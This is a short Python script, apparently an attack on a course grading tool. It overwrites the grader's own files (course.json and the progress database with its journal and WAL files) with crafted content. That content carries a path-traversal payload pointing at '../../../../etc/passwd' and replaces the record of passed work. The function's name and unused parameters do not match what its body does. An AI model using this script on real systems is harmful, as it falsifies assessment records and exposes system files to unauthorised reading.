# what: writes the grader's own folder: the contents of the course and the record of what was passed
import json
import os

FOLDER = "@COURSE@/.grader/"
CONTENTS = {"title": "x", "units": {"..": {"title": "x", "exercises": ["../../../../etc/passwd"]}}}


def double(x, times=2):
    for name in ("course.json", "progress.db", "progress.db-journal", "progress.db-wal"):
        try:
            file = os.open(FOLDER + "new", os.O_WRONLY | os.O_CREAT | os.O_EXCL)
        except OSError as error:
            print(error)
            continue
        try:
            os.write(file, json.dumps({"stamp": [0, 0], "contents": CONTENTS}).encode())
            os.rename(FOLDER + "new", FOLDER + name)
            print("gained:", name)
        except OSError as error:
            print(error)
            os.unlink(FOLDER + "new")
